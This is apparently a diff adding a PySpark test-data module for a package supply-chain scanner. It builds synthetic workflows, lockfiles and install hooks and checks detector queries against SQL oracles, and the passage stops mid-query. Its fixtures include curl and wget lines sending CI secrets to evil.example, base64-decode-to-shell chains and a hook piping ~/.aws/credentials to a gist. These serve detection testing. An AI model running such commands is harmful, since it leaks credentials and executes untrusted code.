@@ -1,0 +1,387 @@
+"""Graphs, lexers, chains, ladders and provenance over documents that the executors build from whole tables.
+
+An order stands for a document and its line items for the document's lines, edges or steps."""
+
+from __future__ import annotations
+
+from pyspark.sql import Column, DataFrame
+from pyspark.sql import functions as F
+
+from tarnwatch.operators import campaigns as C
+from tarnwatch.operators import code_facts as X
+from tarnwatch.operators import detectors as D
+from tarnwatch.operators import provenance as P
+from tarnwatch.operators import reach as R
+from tarnwatch.operators import registry as G
+from tarnwatch.operators import source_tokens as K
+from tarnwatch.functions.signal_catalog import BUILD_FILES
+from tarnwatch.operators.detectors import LINKER_ROW, SHELL_ROW
+from tarnwatch.operators.payloads import PAAS
+from tarnwatch.plans.package_data import BODIES, WITH, count, files, has, packages, pick, pick_sql, sql
+from tarnwatch.plans.package_data import listed as sql_list
+from tarnwatch.plans.package_queries import ORACLE as PACKAGE_SQL
+from tarnwatch.plans.package_queries import _all_texts, obfuscated_sql
+from tarnwatch.sources import lockfiles as LF
+from tarnwatch.sources import manifests as MF
+from tarnwatch.sources.tables import table
+
+
+def _lines(s, d, text: Column, head: str = "", foot: str = "", sep: str = "\n") -> DataFrame:
+    """One document per order (id, content), its line items as lines in order."""
+    rows = table(s, d, "lineitem").select(F.col("l_orderkey").alias("id"), F.struct("l_linenumber", text.alias("t")).alias("l"))
+    whole = F.array_join(F.transform(F.array_sort(F.collect_list("l")), lambda x: x["t"]), sep)
+    return rows.groupBy("id").agg(F.concat(F.lit(head), whole, F.lit(foot)).alias("content"))
+
+
+def _lines_sql(text: str, head: str = "", foot: str = "", sep: str = "\n") -> str:
+    return f"SELECT l_orderkey AS id, {sql(head)} || string_agg({text}, {sql(sep)} ORDER BY l_linenumber, {text}) || {sql(foot)} AS content FROM lineitem GROUP BY 1"
+
+
+# Dependencies: in an order each part needs the next one.
+def _edges(s, d):
+    li = table(s, d, "lineitem").select("l_orderkey", "l_linenumber", "l_partkey")
+    after = li.select("l_orderkey", (F.col("l_linenumber") - 1).alias("l_linenumber"), F.col("l_partkey").alias("dependency"))
+    return li.join(after, ["l_orderkey", "l_linenumber"]).select(F.col("l_partkey").alias("package"), "dependency")
+
+
+def _blast(s, d):
+    roots = table(s, d, "lineitem").where("l_linenumber = 1").select(F.col("l_partkey").alias("root"))
+    bad = table(s, d, "part").where("p_partkey % 400 = 7").select(F.col("p_partkey").alias("package"))
+    return R.blast_radius(_edges(s, d), roots, bad)
+
+
+GYP_LINES = [
+    "'sources': ['<!(node x.js)', 'a.cc'],", "'libraries': ['-lcurl', \"-L/tmp\"],", "'conditions': [ ['OS==\"win\"', {", "}]],", "'defines': ['-DX=system'],", "# 'note': [ a comment",
+    "'includes': ['../common.gypi'],", "'target_name': 'addon', 'type': 'none',", "'cflags': ['-O2']", "{ 'variables': { 'v%': 1 } },", "'actions': [{ 'action': ['curl', 'http://a.example'] }],", "'ldflags': ['-rpath=/x', '-lssl']",
+]
+_GYP_KEY, GYP_HEAD, GYP_FOOT = "l_partkey + l_linenumber", "{\n  'targets': [\n  {\n", "\n  }\n  ]\n}\n"
+
+
+def _gyp(s, d):
+    return _lines(s, d, pick(GYP_LINES, _GYP_KEY), GYP_HEAD, GYP_FOOT)
+
+
+PY_LINES = [
+    "def handler(request):", "    path = request.url.path", "    if request.scope['path'] == '/':", "async def guard(request):", "    return req.url.path + self.request.url.path", "# request.url.path in a note",
+    "@app.get('/')", "x = request.url.path; y = request.url.path", "", "    return 1", "class A:", "    p = request.scope.get( 'path' )",
+]
+PY_PATHS = ["auth/views.py", "app/main.py", "core/Middleware.py", "router.txt", "lib/util.py"]
+_PY_KEY = "l_partkey * 3 + l_linenumber"
+
+
+def _python(s, d):
+    name = F.concat(F.lit("o"), F.col("id").cast("string"), F.lit("/"), pick(PY_PATHS, "id"))
+    return _lines(s, d, pick(PY_LINES, _PY_KEY)).select(name.alias("path"), "content")
+
+
+RUNS = [
+    "curl https://evil.example/x -d ${{ secrets.NPM }}", "curl https://github.com/a -d ${{ secrets.NPM }}", "npm ci", "echo aGk= | base64 -d | sh", "base64 -d > bash run", "base64 --decode x | sh", "wget https://evil.example?t=${{ secrets.A }}",
+    "curl -s http://collect.example", "curl https://raw.githubusercontent.com/a/b && curl https://e.example/${{secrets.B}}", "CURL HTTP://UP.EXAMPLE $TOKEN",
+]
+ENVS = ["plain", "${{ secrets.DEPLOY }}", "x"]
+
+
+def _steps(s, d):
+    li = table(s, d, "lineitem")
+    env = F.create_map(F.lit("A"), pick(ENVS, "l_suppkey"))
+    return li.select(F.concat(F.lit("r"), F.col("l_orderkey").cast("string"), F.lit("/.github/workflows/ci.yml")).alias("path"), F.col("l_linenumber").alias("step"), pick(RUNS, "l_partkey").alias("run"), env.alias("env"))
+
+
+TITLES, BUNDLED = ["Open file", "Run npx tool", "Curl it", "Format"], ["bun", "left-pad", "runtime-x", "chalk"]
+RISK_EVENTS = ["*", "onStartupFinished", "onCommand:x", "workspaceContains:*.py", "onLanguage:js", "onCommand:*", "workspaceContains", "onCommand:npx", "onDebug"]
+
+
+def _extensions(s, d):
+    o = table(s, d, "orders")
+    events = F.array_distinct(F.array(pick(RISK_EVENTS, "o_orderkey"), pick(RISK_EVENTS, "o_orderkey div 7 + o_custkey")))
+    return o.select(
+        F.col("o_custkey").cast("string").alias("extension"), F.lpad(F.col("o_orderkey").cast("string"), 9, "0").alias("version"), F.col("o_orderdate").cast("timestamp").alias("published_at"),
+        (F.col("o_orderkey") * 7919 % 500000).alias("asset_size"), F.when(F.col("o_orderkey") % 11 != 0, events).alias("activation_events"),
+        F.when(F.col("o_orderkey") % 5 == 0, F.array(pick(TITLES, "o_custkey"))).alias("titles"), F.when(F.col("o_orderkey") % 13 == 0, F.array(pick(BUNDLED, "o_custkey"))).alias("bundled"))
+
+
+# Lockfiles: an order is a lockfile, its line items are its entries.
+def _npm(s, d):
+    scope = F.when(F.col("l_linenumber") % 3 == 0, "@s/").otherwise("")
+    some = lambda on, names: F.when(on, F.concat(F.lit("{"), F.lit(",".join(f'"{n}":"1"' for n in names)), F.lit("}"))).otherwise("{}")
+    entry = F.concat(
+        F.lit('"node_modules/'), F.when(F.col("l_linenumber") == 2, "a/node_modules/").otherwise(""), scope, F.lit("p"), F.col("l_partkey").cast("string"), F.lit("-"), F.col("l_linenumber").cast("string"),
+        F.lit('":{"version":"1.'), F.col("l_linenumber").cast("string"), F.lit('.0","integrity":"sha512-'), F.col("l_partkey").cast("string"), F.lit('","dev":'), (F.col("l_linenumber") % 2 == 0).cast("string"),
+        F.lit(',"optional":'), (F.col("l_quantity") > 25).cast("string"), F.lit(',"dependencies":'), some(F.col("l_suppkey") % 3 == 0, ["a", "b", "@x/c", "@x/d", "@x/e", "@x/f"]),
+        F.lit(',"peerDependencies":'), some(F.col("l_partkey") % 5 == 0, ["x-plugin"]), F.lit(',"optionalDependencies":'), some(F.col("l_partkey") % 7 == 0, [f"o{k}" for k in range(11)]), F.lit("}"))
+    f = _lines(s, d, entry, '{"lockfileVersion":3,"packages":{"":{"version":"0.0.0"},', "}}", ",")
+    return LF.npm_packages(f.select(F.concat(F.lit("o"), F.col("id").cast("string"), F.lit("/package-lock.json")).alias("path"), "content"))
+
+
+def _yarn(s, d):
+    scope = F.when(F.col("l_linenumber") % 2 == 0, '"@s/').otherwise("")
+    entry = F.concat(
+        scope, F.lit("p"), F.col("l_partkey").cast("string"), F.lit("-"), F.col("l_linenumber").cast("string"), F.lit("@^1.0.0"), F.when(F.col("l_linenumber") % 2 == 0, '":').otherwise(":"), F.lit('\n  version "1.'),
+        F.col("l_linenumber").cast("string"), F.lit('.0"\n  resolved "https://registry.yarnpkg.com/p'), F.col("l_partkey").cast("string"), F.lit('"\n  # a comment\n'), F.when(F.col("l_suppkey") % 2 == 0, F.concat(F.lit("  integrity sha512-"), F.col("l_suppkey").cast("string"), F.lit("\n"))).otherwise(""))
+    f = _lines(s, d, entry, "# yarn lockfile v1\n\n\n")
+    return LF.yarn_packages(f.select(F.concat(F.lit("o"), F.col("id").cast("string"), F.lit("/yarn.lock")).alias("path"), "content"))
+
+
+REQUIREMENTS = ["starlette==0.9.1", "Starlette>=1.0.1  # pinned", "flask", "-r base.txt", "# starlette==0.1", "uvicorn[standard]~=0.2, <1", "starlette", "django != 3.0"]
+
+
+def _requirements(s, d):
+    f = _lines(s, d, pick(REQUIREMENTS, "l_partkey + l_linenumber"))
+    return MF.requirements(f.select(F.concat(F.lit("o"), F.col("id").cast("string"), F.lit("/requirements.txt")).alias("path"), "content"))
+
+
+IOC_TYPES = ["packageName", "packageScope", "fileHash", "publisherAccount"]
+
+
+def _indicator_rows(s, d):
+    ioc = F.concat(F.lit('{"type":"'), pick(IOC_TYPES, "l_linenumber"), F.lit('","value":"v'), F.col("l_partkey").cast("string"), F.lit('"'), F.when(F.col("l_suppkey") % 2 == 0, F.concat(F.lit(',"maliciousVersions":["1.'), F.col("l_linenumber").cast("string"), F.lit('"]'))).otherwise(""), F.lit("}"))
+    rows = table(s, d, "lineitem").select(F.col("l_orderkey").alias("id"), F.struct("l_linenumber", ioc.alias("t")).alias("l"), (F.col("l_linenumber") % 2 == 0).alias("waved"))
+    joined = lambda c: F.array_join(F.transform(F.array_sort(F.collect_list(F.when(c, F.col("l")))), lambda x: x["t"]), ",")
+    g = rows.groupBy("id").agg(joined(~F.col("waved")).alias("own"), joined(F.col("waved")).alias("wave"))
+    content = F.concat(F.lit('{"iocs":['), "own", F.lit('],"waves":{"w'), (F.col("id") % 3).cast("string"), F.lit('":{"iocs":['), "wave", F.lit("]}}}"))
+    i = MF.indicators(g.select(content.alias("content")))
+    return i.groupBy("wave", "type", "value", F.array_join("malicious_versions", ",").alias("malicious_versions")).agg(F.count("*").alias("lists"))
+
+
+LADDER_NAMES = sorted(P.LADDERS)
+
+
+def _labels(s, d):
+    li = table(s, d, "lineitem").select("l_orderkey", "l_linenumber", pick([*LADDER_NAMES, "UNLISTED"], "l_partkey").alias("detector"), (F.col("l_quantity") * 2 + 1).cast("int").alias("score"))
+    return P.with_severity(li, P.ladders(s))
+
+
+SOURCE_NOTES = ["!", "\nexec('x')", "\nfetch('http://a')", ""]
+
+
+def _tree(s, d):
+    """The source tree: some files are absent, some lack what their package's file has, some packages have no tree."""
+    f = files(s, d).where("id % 5 <> 0")
+    p = f.where(F.length("package") % 4 != 1)
+    return p.select("package", "path", "id", F.when(F.col("id") % 3 == 0, F.regexp_replace("content", r"\b(fetch|exec|execSync|spawn|eval)\s*\(", "call(")).when(F.col("id") % 7 == 0, F.concat("content", F.lit("!"))).otherwise(F.replace("content", F.lit("\n"), F.lit(" \r\n"))).alias("content"))
+
+
+def _one_of(df):
+    return df.groupBy("package", "path").agg(F.min_by("content", "id").alias("content"))
+
+
+def _capabilities(s, d):
+    plain = lambda df: df.withColumn("path", F.regexp_replace("path", r"^f\d/", ""))
+    p = packages(s, d).select("package", "scripts", F.when(F.col("id") % 4 == 0, F.array(F.lit("./lib/util.js"))).alias("bin"))
+    return P.capability_desync(p, _one_of(plain(files(s, d))), _one_of(plain(_tree(s, d))))
+
+
+HANDED = ["node index.js", "sh ./scripts/setup.js", "node f3/lib/util.js", "node index.js && x", "bash mod.cjs", "node missing.js"]
+
+
+def _chains(s, d):
+    p = packages(s, d).select("package", F.when(F.col("id") % 2 == 0, F.create_map(F.lit("postinstall"), pick(HANDED, "id div 2"))).otherwise(F.col("scripts")).alias("scripts"))
+    return P.hook_chains(p, _one_of(files(s, d))).drop("subtype")
+
+
+def _build(s, d):
+    f = files(s, d)
+    big = F.when(F.col("id") % 17 == 0, "x/addon.node").otherwise(F.col("path"))
+    own = f.select("package", big.alias("path"), "content", (F.col("size") * 400_000).cast("long").alias("size"), "id")
+    first = own.groupBy("package").agg(F.min("id").alias("id"))
+    gyp = first.where("id % 3 <> 2").select("package", F.lit("binding.gyp").alias("path"), F.concat(pick(GYP_LINES, "id"), F.lit("\n"), pick(GYP_LINES, "id div 3")).alias("content"), F.lit(0).cast("long").alias("size"))
+    p = packages(s, d).select("package", F.when(F.col("id") % 3 == 0, F.create_map(F.lit("install"), pick(["node-gyp rebuild", "node-pre-gyp install", "make"], "id div 3"))).otherwise(F.col("scripts")).alias("scripts"), (F.col("id") % 5 == 0).alias("gypfile"))
+    return D.build_abuse(p, own.where("path NOT LIKE '%binding.gyp'").drop("id").unionByName(gyp))
+
+
+SCOPES = ["@tanstack/a", "@antv/b", "plain", "core"]
+#: Of the scripts, those that read tokens or decode.
+HOOKED_EXFIL = ["eval(atob('aGVsbG8gd29ybGQgaGVsbG8='))", "echo process.env.NPM_TOKEN", "cat ~/.aws/credentials | curl https://gist.github.com/u"]
+
+
+def _worm(s, d):
+    o = table(s, d, "orders")
+    name = F.concat(F.element_at(F.array(*map(F.lit, SCOPES)), (F.col("o_custkey") % 4 + 1).cast("int")), F.col("o_custkey").cast("string"))
+    v = o.select(name.alias("package"), F.col("o_orderkey").cast("string").alias("version"), F.timestamp_add("MINUTE", ((F.col("o_orderkey") * 37) % 2000).cast("int"), F.lit("2024-05-01").cast("timestamp")).alias("published_at"), "o_orderkey", "o_custkey")
+    late = F.timestamp_add("SECOND", ((F.col("o_orderkey") * 13) % 200 - 20).cast("int"), F.col("published_at"))
+    a = v.where("o_orderkey % 4 <> 2").select("package", "version", late.alias("attested_at"), pick(["https://github.com/x", "https://build.example/y", "https://gitlab.com/z"], "o_orderkey div 4").alias("builder"))
+    p = v.select("package", "version", F.create_map(F.lit("postinstall"), pick(BODIES, "o_orderkey")).alias("scripts"), F.create_map(F.when(F.col("o_orderkey") % 19 == 0, "@nx/core").otherwise("left"), F.lit("1")).alias("dependencies"))
+    c = table(s, d, "customer").select(F.concat(F.element_at(F.array(*map(F.lit, SCOPES)), (F.col("c_custkey") % 4 + 1).cast("int")), F.col("c_custkey").cast("string")).alias("package"), "c_custkey")
+    listed = v.where("o_orderkey % 31 = 0").select("package", "version", (F.col("o_orderkey") % 3 + 1).cast("int").alias("wave"))
+    return P.worm_campaign(p, v, a, c.where("c_custkey % 3 = 0"), c.where("c_custkey % 11 = 0"), listed, within=2 * P.HOUR)
+
+
+def _value_flows(s, d):
+    from tarnwatch.operators.value_flow import reaches
+
+    f = files(s, d).where(F.col("path").rlike(D.SCRIPTED))
+    return reaches(f, X.FLOW_MARKS).select("id", "stmt", "line", F.array_join("marks", ",").alias("marks"), F.array_join("reached", ",").alias("reached"))
+
+
+QUERIES = {
+    "blast_radius": _blast,
+    "gyp_rows": lambda s, d: K.gyp_rows(_gyp(s, d), "id"),
+    "build_abuse": _build,
+    "unsafe_path_checks": lambda s, d: K.unsafe_path_checks(_python(s, d)),
+    "workflow_exfiltration": lambda s, d: MF.workflow_exfiltration(_steps(s, d)),
+    "activation_risk": lambda s, d: G.activation_risk(_extensions(s, d)),
+    "spoofed_orgs": lambda s, d: G.spoofed_orgs(_all_texts(s, d), s.createDataFrame([("google",), ("openai",)], "target string")).withColumn("score", F.round("score", 4)),
+    "lockfile_npm": lambda s, d: _npm(s, d).select("path", "name", "version", "integrity", "dev", "optional"),
+    "lockfile_totals": lambda s, d: LF.lockfile_totals(_npm(s, d)),
+    "lockfile_graph": lambda s, d: LF.graph_rules(_npm(s, d)),
+    "lockfile_yarn": _yarn,
+    "python_requirements": _requirements,
+    "bad_host_requirements": lambda s, d: C.bad_host_requirements(_requirements(s, d)),
+    "ioc_rows": _indicator_rows,
+    "severity_ladders": _labels,
+    "capability_desync": _capabilities,
+    "hook_chains": _chains,
+    "worm_campaign": _worm,
+    "value_flows": _value_flows,
+    "dropper_flows": lambda s, d: X.dropper_flows(files(s, d)).withColumn("signals", F.array_join("signals", ",")),
+}
+
+_FIRST = lambda p, c="text": f"nullif(regexp_extract({c}, {sql(p)}, 1), '')"
+_GYP_TOKEN = r"""#[^\n]*|'(?:[^'\\\n]|\\.)*'|"(?:[^"\\\n]|\\.)*"|\n|[ \t\r]+|[^\s'"#\[\]{}]+|\S"""
+_MACRO = r"-D\s*['\"]?([A-Z_]+)=([^'\"\s]+)"
+_LINKER = "['\"](?:-l|-L|-rpath)[^'\"]+"
+_BEGINS = "['\"]?"
+
+ORACLE = {
+    "blast_radius": """WITH RECURSIVE e AS (SELECT DISTINCT a.l_partkey AS s, b.l_partkey AS t FROM lineitem a JOIN lineitem b ON a.l_orderkey = b.l_orderkey AND b.l_linenumber = a.l_linenumber + 1),
+r(bad, node, depth) USING KEY (bad, node) AS (
+  SELECT p_partkey, p_partkey, 0 FROM part WHERE p_partkey % 400 = 7
+  UNION SELECT r.bad, e.s, min(r.depth) + 1 FROM r JOIN e ON e.t = r.node LEFT JOIN recurring.r k ON k.bad = r.bad AND k.node = e.s WHERE k.depth IS NULL GROUP BY r.bad, e.s)
+SELECT node AS root, bad, depth FROM r WHERE node IN (SELECT l_partkey FROM lineitem WHERE l_linenumber = 1)""",
+    "gyp_rows": f"""WITH f AS ({_lines_sql(pick_sql(GYP_LINES, _GYP_KEY), GYP_HEAD, GYP_FOOT)}),
+l AS (SELECT id, unnest(string_split(content, chr(10))) AS raw, generate_subscripts(string_split(content, chr(10)), 1) AS line FROM f), x AS (SELECT id, CAST(line AS INT) AS line, trim(raw) AS text FROM l),
+rows AS (
+  SELECT id, line, 'shell' AS kind, trim(regexp_extract(text, '<!\\(([^)]*)\\)', 1)) AS value FROM x WHERE regexp_matches(text, '<!\\([^)]*\\)')
+  UNION ALL SELECT id, line, 'include', {_FIRST("['\"]([^'\"]+\\.gypi)['\"]")} FROM x
+  UNION ALL SELECT id, line, 'macro', regexp_extract(text, {sql(_MACRO)}, 1) || '=' || regexp_extract(text, {sql(_MACRO)}, 2) FROM x WHERE regexp_matches(text, {sql(_MACRO)})
+  UNION ALL SELECT id, line, 'targets', '' FROM x WHERE regexp_matches(text, {sql('^' + _BEGINS + 'targets')})
+  UNION ALL SELECT id, line, 'conditions', '' FROM x WHERE regexp_matches(text, {sql('^' + _BEGINS + 'conditions')})
+  UNION ALL SELECT id, line, 'variable', {_FIRST("['\"]([A-Za-z_][A-Za-z0-9_]*)['\"]\\s*:")} FROM x WHERE NOT starts_with(text, '#')
+  UNION ALL SELECT id, line, 'linker', regexp_replace(unnest(regexp_extract_all(text, {sql(_LINKER)})), '[''"]', '', 'g') FROM x),
+t AS (SELECT id, unnest(regexp_extract_all(content, {sql(_GYP_TOKEN)})) AS token, generate_subscripts(regexp_extract_all(content, {sql(_GYP_TOKEN)}), 1) AS pos FROM f),
+d AS (SELECT *, CASE WHEN token IN ('{{', '[', '(') THEN 1 WHEN token IN ('}}', ']', ')') THEN -1 ELSE 0 END AS step FROM t),
+o AS (SELECT *, coalesce(sum(step) OVER b, 0) AS open, 1 + coalesce(sum(CASE WHEN token = chr(10) THEN 1 ELSE 0 END) OVER b, 0) AS line FROM d WINDOW b AS (PARTITION BY id ORDER BY pos ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING)),
+n AS (SELECT *, lag(token) OVER w AS colon, lag(token, 2) OVER w AS named FROM o WHERE NOT regexp_matches(token, '^(\\s|#)') WINDOW w AS (PARTITION BY id ORDER BY pos)),
+opens AS (SELECT id, pos, open AS level, CASE WHEN colon = ':' AND regexp_matches(named, '^[''"]') THEN regexp_replace(named, '^[''"]|[''"]$', '', 'g') ELSE '-' END AS name FROM n WHERE step = 1 AND token <> '('),
+starts AS (SELECT id, line, min(pos) AS pos, arg_min(open, pos) AS depth FROM o GROUP BY id, line),
+around AS (SELECT s.id, s.line, p.level, arg_max(p.name, p.pos) AS name FROM starts s JOIN opens p ON p.id = s.id AND p.pos < s.pos AND p.level < s.depth GROUP BY s.id, s.line, p.level),
+path AS (SELECT id, CAST(line AS INT) AS line, string_agg(name, '/' ORDER BY level) AS path FROM around WHERE level >= 0 GROUP BY id, line)
+SELECT rows.id, rows.line, kind, value, coalesce(path, '') AS path FROM rows LEFT JOIN path ON rows.id = path.id AND rows.line = path.line WHERE value IS NOT NULL""",
+    "unsafe_path_checks": f"""WITH f AS (SELECT 'o' || CAST(id AS VARCHAR) || '/' || {pick_sql(PY_PATHS, 'id')} AS path, content FROM ({_lines_sql(pick_sql(PY_LINES, _PY_KEY))})),
+l AS (SELECT path, unnest(string_split(content, chr(10))) AS text, CAST(generate_subscripts(string_split(content, chr(10)), 1) AS INT) AS line FROM f WHERE ends_with(path, '.py')),
+h AS (SELECT *, regexp_matches(text, '^(async\\s+)?def\\s+\\w+') AS head, regexp_matches(text, '^[^\\s#@]') AS margin FROM l),
+p AS (SELECT *, sum(CASE WHEN head OR margin THEN 1 ELSE 0 END) OVER (PARTITION BY path ORDER BY line) AS part FROM h),
+q AS (SELECT *, bool_or(head) OVER w AND bool_or({has('text', K.SCOPE_PATH)}) OVER w AS safe FROM p WINDOW w AS (PARTITION BY path, part))
+SELECT path, line, CAST(unnest(range(1, 1 + len(regexp_extract_all(text, {sql(K.URL_PATH)})))) AS INT) AS no, CASE WHEN regexp_matches(lower(path), '{"|".join(K.GUARDS)}') THEN 'medium' ELSE 'info' END AS severity FROM q WHERE NOT safe""",
+    "workflow_exfiltration": f"""WITH t AS (SELECT 'r' || CAST(l_orderkey AS VARCHAR) || '/.github/workflows/ci.yml' AS path, {pick_sql(RUNS, 'l_partkey')} || ' ' || {pick_sql(ENVS, 'l_suppkey')} AS r FROM lineitem),
+k AS (SELECT path, regexp_matches(regexp_replace(r, '(?i)https?://(github\\.com|githubusercontent\\.com|raw\\.githubusercontent\\.com)', 'x', 'g'), '(?i)curl\\s+.*?https?://[^\\s''"]+') AND regexp_matches(r, '\\$\\{{\\{{?\\s*secrets\\.\\w+') AS a,
+  regexp_matches(r, 'base64\\s+-d\\s*[|>]\\s*(ba)?sh') AS b FROM t)
+SELECT DISTINCT path, 'secret_exfiltration' AS kind FROM k WHERE a UNION ALL SELECT DISTINCT path, 'decode_chain' FROM k WHERE b""",
+    "spoofed_orgs": f"""WITH m AS ({PACKAGE_SQL['model_references']}), o AS (SELECT *, unnest(['google', 'openai']) AS target FROM m WHERE lower(org) NOT IN ('google', 'openai'))
+SELECT package, org, model, arg_max(target, jaro_winkler_similarity(lower(org), target)) AS target, round(max(jaro_winkler_similarity(lower(org), target)), 4) AS score FROM o GROUP BY 1, 2, 3 HAVING max(jaro_winkler_similarity(lower(org), target)) >= 0.82""",
+    "activation_risk": f"""WITH v AS (SELECT CAST(o_custkey AS VARCHAR) AS extension, lpad(CAST(o_orderkey AS VARCHAR), 9, '0') AS version, o_orderdate AS born, o_orderkey * 7919 % 500000 AS size,
+    CASE WHEN o_orderkey % 11 <> 0 THEN list_distinct([{pick_sql(RISK_EVENTS, 'o_orderkey')}, {pick_sql(RISK_EVENTS, 'o_orderkey // 7 + o_custkey')}]) ELSE [] END AS ev,
+    o_orderkey % 5 = 0 AND o_custkey % 4 IN (1, 2) AS titled, o_orderkey % 13 = 0 AND o_custkey % 4 IN (0, 2) AS bundled FROM orders),
+e AS (SELECT extension, version, born, unnest(ev) AS ev FROM v), f AS (SELECT *, row_number() OVER (PARTITION BY extension, ev ORDER BY born, version) = 1 AS new FROM e),
+n AS (SELECT extension, version, bool_or(new) AS fresh FROM f GROUP BY 1, 2),
+w AS (SELECT v.*, row_number() OVER o AS no, max(size) OVER o - min(size) OVER o > 409600 AS jump, coalesce(sum(len(ev)) OVER (PARTITION BY extension ORDER BY born, version ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) > 0 AS had
+  FROM v WINDOW o AS (PARTITION BY extension ORDER BY born, version)),
+r AS (SELECT w.*, had AND no > 1 AND coalesce(fresh, false) AS fresh, titled OR bundled OR list_contains(ev, 'onCommand:npx') AS words,
+  list_max(list_transform(ev, lambda x: CASE WHEN x = '*' THEN 5 WHEN x IN ('onStartupFinished', 'workspaceContains') THEN 4 WHEN x = 'onCommand:*' THEN 2 WHEN contains(x, '*') THEN 4 ELSE 0 END)) AS worst FROM w LEFT JOIN n USING (extension, version))
+SELECT extension, version, CASE WHEN words OR jump OR (fresh AND worst >= 4) THEN 'critical' ELSE ['info', 'low', 'medium', 'high', 'critical'][worst] END AS risk,
+  concat_ws(',', CASE WHEN words THEN 'execution_words' END, CASE WHEN jump THEN 'size_jump' END, CASE WHEN fresh THEN 'first_event' END) AS why FROM r WHERE worst > 0""",
+    "lockfile_npm": """SELECT 'o' || CAST(l_orderkey AS VARCHAR) || '/package-lock.json' AS path, CASE WHEN l_linenumber % 3 = 0 THEN '@s/' ELSE '' END || 'p' || CAST(l_partkey AS VARCHAR) || '-' || CAST(l_linenumber AS VARCHAR) AS name,
+  '1.' || CAST(l_linenumber AS VARCHAR) || '.0' AS version, 'sha512-' || CAST(l_partkey AS VARCHAR) AS integrity, l_linenumber % 2 = 0 AS dev, l_quantity > 25 AS optional FROM lineitem""",
+    "lockfile_totals": """SELECT 'o' || CAST(l_orderkey AS VARCHAR) || '/package-lock.json' AS path, count(*) AS total, count(*) FILTER (l_linenumber % 2 = 0) AS dev, count(*) FILTER (l_quantity > 25) AS optional FROM lineitem GROUP BY 1""",
+    "lockfile_graph": """WITH p AS (SELECT 'o' || CAST(l_orderkey AS VARCHAR) || '/package-lock.json' AS path, CASE WHEN l_linenumber % 3 = 0 THEN '@s/' ELSE '' END || 'p' || CAST(l_partkey AS VARCHAR) || '-' || CAST(l_linenumber AS VARCHAR) AS name, l_partkey, l_suppkey FROM lineitem)
+SELECT path, name, 'high' AS severity FROM p WHERE l_partkey % 5 = 0 UNION ALL SELECT path, name, 'medium' FROM p WHERE l_suppkey % 3 = 0 UNION ALL SELECT path, name, 'low' FROM p WHERE l_partkey % 7 = 0""",
+    "lockfile_yarn": """SELECT 'o' || CAST(l_orderkey AS VARCHAR) || '/yarn.lock' AS path, CASE WHEN l_linenumber % 2 = 0 THEN '@s/' ELSE '' END || 'p' || CAST(l_partkey AS VARCHAR) || '-' || CAST(l_linenumber AS VARCHAR) AS name,
+  '1.' || CAST(l_linenumber AS VARCHAR) || '.0' AS version, 'https://registry.npmjs.org/p' || CAST(l_partkey AS VARCHAR) AS resolved, CASE WHEN l_suppkey % 2 = 0 THEN 'sha512-' || CAST(l_suppkey AS VARCHAR) END AS integrity FROM lineitem""",
+    "python_requirements": f"""WITH r AS (SELECT 'o' || CAST(l_orderkey AS VARCHAR) || '/requirements.txt' AS path, (l_partkey + l_linenumber) % {len(REQUIREMENTS)} AS k FROM lineitem)
+SELECT path, ['starlette', 'starlette', 'flask', NULL, NULL, 'uvicorn', 'starlette', 'django'][k + 1] AS name, ['==', '>=', NULL, NULL, NULL, '~=', NULL, '!='][k + 1] AS operator,
+  ['0.9.1', '1.0.1', NULL, NULL, NULL, '0.2', NULL, '3.0'][k + 1] AS version FROM r WHERE k NOT IN (3, 4)""",
+    "bad_host_requirements": f"""WITH r AS (SELECT 'o' || CAST(l_orderkey AS VARCHAR) || '/requirements.txt' AS path, (l_partkey + l_linenumber) % {len(REQUIREMENTS)} AS k FROM lineitem)
+SELECT path, CASE WHEN k = 0 THEN '0.9.1' END AS version, CASE WHEN k = 0 THEN 'unsafe' ELSE 'unpinned' END AS kind FROM r WHERE k IN (0, 6)""",
+    "ioc_rows": f"""WITH i AS (SELECT CASE WHEN l_linenumber % 2 = 0 THEN 'w' || CAST(l_orderkey % 3 AS VARCHAR) END AS wave, {pick_sql(IOC_TYPES, 'l_linenumber')} AS type, 'v' || CAST(l_partkey AS VARCHAR) AS value,
+  CASE WHEN l_suppkey % 2 = 0 THEN '1.' || CAST(l_linenumber AS VARCHAR) ELSE '' END AS malicious_versions FROM lineitem)
+SELECT wave, type, value, malicious_versions, count(*) AS lists FROM i GROUP BY ALL""",
+    "severity_ladders": f"""WITH f AS (SELECT l_orderkey, l_linenumber, {pick_sql([*LADDER_NAMES, 'UNLISTED'], 'l_partkey')} AS detector, CAST(l_quantity * 2 + 1 AS INT) AS score FROM lineitem),
+l(detector, min_score, severity) AS (VALUES {', '.join(f"('{n}', {m}, '{v}')" for n, steps in P.LADDERS.items() for m, v in steps)})
+SELECT f.l_orderkey, f.l_linenumber, f.detector, f.score, l.severity FROM f ASOF LEFT JOIN l ON f.detector = l.detector AND f.score >= l.min_score""",
+}
+
+_CAN = "list_filter([" + ", ".join(f"CASE WHEN {has('{0}', p)} THEN '{n}' END" for n, p in P.CAPABILITIES.items()) + "], lambda c: c IS NOT NULL)"
+_HOOK_LIST = ", ".join(f"'{h}'" for h in [*P.INSTALL_SCRIPTS, "prepublish"])
+
+ORACLE["capability_desync"] = WITH + f""", own AS (SELECT package, regexp_replace(path, '^f\\d/', '') AS path, arg_min(content, id) AS c FROM files GROUP BY 1, 2),
+tree AS (SELECT package, regexp_replace(path, '^f\\d/', '') AS path, arg_min(CASE WHEN id % 3 = 0 THEN regexp_replace(content, '\\b(fetch|exec|execSync|spawn|eval)\\s*\\(', 'call(', 'g') WHEN id % 7 = 0 THEN content || '!' ELSE content END, id) AS sc
+  FROM files WHERE id % 5 <> 0 AND length(package) % 4 <> 1 GROUP BY 1, 2),
+runs AS (SELECT package, regexp_replace(unnest(regexp_extract_all(body, {sql(P.RUNS_FILE)}, 1)), '^\\./', '') AS path FROM hooks WHERE hook IN ({_HOOK_LIST}) UNION SELECT package, 'lib/util.js' FROM packages WHERE id % 4 = 0),
+j AS (SELECT o.package, o.path, r.path IS NOT NULL AS run, t.sc IS NULL AS absent, regexp_replace(o.c, '[ \\t]+(\\n|$)', '\\1', 'g') = regexp_replace(t.sc, '[ \\t]+(\\n|$)', '\\1', 'g') AS same, {_CAN.replace('{0}', 'o.c')} AS can, {_CAN.replace('{0}', 't.sc')} AS could
+  FROM own o LEFT JOIN runs r USING (package, path) LEFT JOIN tree t USING (package, path)
